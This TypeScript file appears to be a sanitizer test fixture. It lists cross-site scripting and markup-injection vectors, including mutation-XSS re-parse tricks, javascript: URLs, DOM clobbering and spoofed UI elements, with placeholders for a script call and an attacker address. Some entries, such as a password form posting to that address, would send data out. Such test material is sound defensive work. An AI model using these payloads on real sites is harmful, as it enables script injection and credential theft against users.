/**
 * Ways in which markup runs script, loads, submits, covers or deceives: one line per technique, written for this project.
 * `RUN` stands for a call that a test notices, `EVIL` for an address that a test's network notices.
 */
export interface Vector {
	technique: string;
	html: string;
}

const table: Record<string, string[]> = {
	'script element': [
		'<script>RUN</script>',
		'<script src="EVIL"></script>',
		'<SCRipt\n>RUN</scRIPT foo>',
		'<script type="module">RUN</script>',
		'<b><scr<script>ipt>RUN</scr</script>ipt></b>',
		'<svg><script>RUN</script></svg>',
		'<svg><script href="EVIL"/></svg>',
		'<math><script>RUN</script></math>',
		'<noscript><p title="</noscript><script>RUN</script>"></noscript>',
		'<template><script>RUN</script></template>',
	],
	'event handler': [
		'<img src="x:" onerror="RUN">',
		'<img src=x:/onerror=1 OnErRoR=RUN>',
		'<p onmouseover="RUN" onclick="RUN" onfocus="RUN" tabindex="0">hover</p>',
		'<details open ontoggle="RUN"><summary>s</summary>d</details>',
		'<video onloadstart="RUN" src="EVIL"><source onerror="RUN" src="x:"></video>',
		'<audio src="x:" onerror="RUN" autoplay></audio>',
		'<b onanimationstart="RUN" style="animation:spin 1s">a</b>',
		'<p onpointerenter="RUN" onbeforeinput="RUN" oncopy="RUN" onscrollend="RUN">p</p>',
		'<math onclick="RUN"><mi onclick="RUN">x</mi></math>',
		'<img/src="x:"/onerror="RUN"//>',
		'<img src="x:" \u000conerror="RUN">',
		'<p onbeforematch="RUN" hidden="until-found">h</p>',
		'<p oncontentvisibilityautostatechange="RUN" style="content-visibility:auto">v</p>',
	],
	'script address': [
		'<a href="javascript:RUN">a</a>',
		'<a href="JaVaScRiPt:RUN">a</a>',
		'<a href=" \u0001java\tscr\nipt:RUN">a</a>',
		'<a href="&#106;&#x61;vascript&colon;RUN">a</a>',
		'<a href="java&Tab;script&NewLine;:RUN">a</a>',
		'<a href="vbscript:RUN">a</a>',
		'<a href="data:text/html,<script>RUN</script>">a</a>',
		'<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
		"<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">a</a>",
		'<a href="blob:http://news.example/1">a</a>',
		'<a href="filesystem:http://news.example/1">a</a>',
		'<a href="view-source:http://news.example/">a</a>',
		'<a href="file:///etc/passwd">a</a>',
		'<a href="chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/x.html">a</a>',
		'<a href="moz-extension://aaaa/x.html">a</a>',
		'<a href="javascript://news.example/%0ARUN">a</a>',
		'<a href="feed:javascript:RUN">a</a>',
		'<a href="jar:javascript:RUN!/">a</a>',
		'<a xlink:href="javascript:RUN" href="x">a</a>',
		'<img src="javascript:RUN">',
		'<img src="data:image/svg+xml,<svg onload=RUN xmlns=\'http://www.w3.org/2000/svg\'/>">',
		'<img srcset="javascript:RUN 1x, data:text/html,RUN 2x">',
		'<picture><source srcset="data:image/svg+xml;base64,AAAA"><img src="/a.png"></picture>',
		'<video poster="javascript:RUN"></video>',
		'<blockquote cite="javascript:RUN">q</blockquote>',
		'<q cite="data:text/html,RUN">q</q>',
		'<math href="javascript:RUN"><mi xlink:href="javascript:RUN">x</mi></math>',
		'<math><maction actiontype="statusline" xlink:href="javascript:RUN">c</maction></math>',
		'<svg><a xlink:href="javascript:RUN"><text>t</text></a></svg>',
		'<svg><a><animate attributeName="href" to="javascript:RUN"/><text>t</text></a></svg>',
		'<svg><use href="data:image/svg+xml,<svg id=\'x\'/>#x"/></svg>',
	],
	'form and control': [
		'<form action="EVIL"><input name="password" autofocus><button>Send</button></form>',
		'<form id="f"></form><button form="f" formaction="javascript:RUN">go</button>',
		'<input type="image" src="EVIL" formaction="EVIL">',
		'<isindex action="javascript:RUN" type="submit">',
		'<select autofocus onfocus="RUN"><option>o</select>',
		'<textarea autofocus onfocus="RUN"></textarea>',
		'<keygen autofocus onfocus="RUN">',
		'<button popovertarget="p" command="show-modal" commandfor="d">Close the reader</button>',
		'<p contenteditable="true" onblur="RUN">edit</p>',
		'<label for="close">Close</label><output for="x">1</output>',
	],
	'document-wide element': [
		'<base href="EVIL">',
		'<meta http-equiv="refresh" content="0;url=EVIL">',
		'<link rel="stylesheet" href="EVIL"><link rel="preload" as="image" href="EVIL">',
		'<link rel="dns-prefetch" href="EVIL"><link rel="prerender" href="EVIL">',
		'<meta name="referrer" content="unsafe-url">',
		'<title>taken</title>',
		'<frameset onload="RUN"><frame src="EVIL"></frameset>',
	],
	'frame and plug-in': [
		'<iframe src="javascript:RUN"></iframe>',
		'<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
		'<iframe src="EVIL"></iframe>',
		'<object data="javascript:RUN"></object>',
		'<embed src="EVIL" type="image/svg+xml">',
		'<applet code="x" archive="EVIL"></applet>',
		'<portal src="EVIL"></portal><fencedframe></fencedframe>',
	],
	'style that loads or covers': [
		'<style>@import "EVIL"; * { background: url(EVIL) }</style>',
		'<p style="position:fixed;inset:0;z-index:2147483647;background:url(EVIL)">cover</p>',
		'<p style="width:expression(RUN);behavior:url(EVIL)">ie</p>',
		'<p style="-moz-binding:url(EVIL#x)">xbl</p>',
		'<table background="EVIL"><tr><td background="EVIL">t</td></tr></table>',
		'<body background="EVIL" bgcolor="red">',
		'<svg><style>@font-face{font-family:x;src:url(EVIL)}</style></svg>',
		'<font color="red" face="x">f</font><marquee onstart="RUN">m</marquee>',
		'<style><!--</style><img title="--><style>a{}</style>" src="x:" onerror="RUN">',
	],
	'mutation on re-parse': [
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
		'<math><annotation-xml encoding="text/html"><style><img src="x:" onerror="RUN"></style></annotation-xml></math>',
		'<svg></p><style><a title="</style><img src=x: onerror=RUN>"></svg>',
		'<svg><desc><style><a title="</style><img src=x: onerror=RUN>"></desc></svg>',
		'<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="RUN">',
		'<math><mi><p><style><img title="</style><img src=x: onerror=RUN>">',
		'<noembed><img title="</noembed><img src=x: onerror=RUN>"></noembed>',
		'<noframes><p title="</noframes><img src=x: onerror=RUN>"></noframes>',
		'<xmp><p title="</xmp><img src=x: onerror=RUN>"></xmp>',
		'<textarea><p title="</textarea><img src=x: onerror=RUN>"></textarea>',
		'<title><p title="</title><img src=x: onerror=RUN>"></title>',
		'<p title="`><img src=x: onerror=RUN>`">backtick</p>',
		'<!--><img src="x:" onerror="RUN">-->',
		'<!-- --!><img src="x:" onerror="RUN"> -->',
		'<![CDATA[><img src="x:" onerror="RUN">]]>',
		'<?xml-stylesheet href="EVIL"?><?php <img src="x:" onerror="RUN"> ?>',
		'<svg><foreignObject><math><mi><style><img title="</style><img src=x: onerror=RUN>"></foreignObject></svg>',
		'<table><caption><svg><desc><style><a id="</style><img src=x: onerror=RUN>">',
		'<select><style><p title="</style><img src=x: onerror=RUN>"></select>',
		'<math><annotation><p><a title="</annotation><img src=x: onerror=RUN>">t</a></p></annotation></math>',
		`${'<div>'.repeat(600)}<math><mtext><style><img title="</style><img src=x: onerror=RUN>">${'</div>'.repeat(600)}`,
	],
	'clobbering by id or name': [
		'<img name="body"><img name="getElementById"><a id="documentElement" name="cookie">a</a>',
		'<a id="defaultView"></a><a id="defaultView" name="document" href="EVIL">a</a>',
		'<form id="forms"><input name="attributes"><input name="parentNode"><input name="nodeName"></form>',
		'<div id="first-risk">Not risky at all</div>',
		'<p id="user-content-x">x</p><a name="y">y</a><a href="#x">to x</a>',
		'<object id="implementation" data="EVIL"></object>',
	],
	'passing for a part of the view': [
		'<section class="notice notice-risk" data-notice="banned-outlet" data-severity="risk">Safe to share</section>',
		'<div data-caveat-reader class="bar">Close</div>',
		'<p class="caveat-embed masthead" data-action="close">press</p>',
		'<dialog open class="bar">A dialog</dialog>',
		'<div popover="manual" id="p">cover</div>',
		'<slot name="card"></slot><p slot="card">s</p>',
		'<div role="alert" aria-live="assertive" aria-label="No notice">a</div>',
		'<h1 is="x-card" part="card" exportparts="card">own</h1>',
		'<div inert hidden>gone</div>',
		'<p accesskey="c" tabindex="1" autofocus draggable="true">key</p>',
	],
	'telling somebody': [
		'<a href="http://news.example/b" ping="EVIL">a</a>',
		'<a href="http://news.example/b" attributionsrc="EVIL" target="opener" rel="opener">a</a>',
		'<a href="http://news.example/b" download="run.exe" referrerpolicy="unsafe-url">a</a>',
		'<video autoplay src="EVIL"></video><audio preload="auto" src="EVIL"></audio>',
		'<img src="/a.png" lowsrc="EVIL" dynsrc="EVIL" longdesc="EVIL" usemap="#m"><map name="m"><area href="javascript:RUN"></map>',
		'<div itemscope itemtype="EVIL" profile="EVIL" manifest="EVIL">i</div>',
	],
	'parts that come alive': [
		'<x-el onclick="RUN"></x-el><p is="x-p">p</p>',
		'<div><template shadowrootmode="open"><script>RUN</script><style>*{}</style></template></div>',
		'<div><template shadowrootmode="open" shadowrootclonable><img src="x:" onerror="RUN"></template></div>',
		'<script type="speculationrules">{"prefetch":[{"urls":["EVIL"]}]}</script>',
		'<script type="importmap">{"imports":{"a":"EVIL"}}</script>',
	],
};

/** Every vector, with its technique. */
export const VECTORS: readonly Vector[] = Object.entries(table).flatMap(([technique, htmls]) =>
	htmls.map((html) => ({ technique, html })),
);

/**
 * @param vector one vector
 * @param run script that the test notices
 * @param evil address that the test notices
 * @returns its markup
 */
export function arm({ html }: Vector, run: string, evil: string): string {
	return html.replaceAll('RUN', run).replaceAll('EVIL', evil);
}
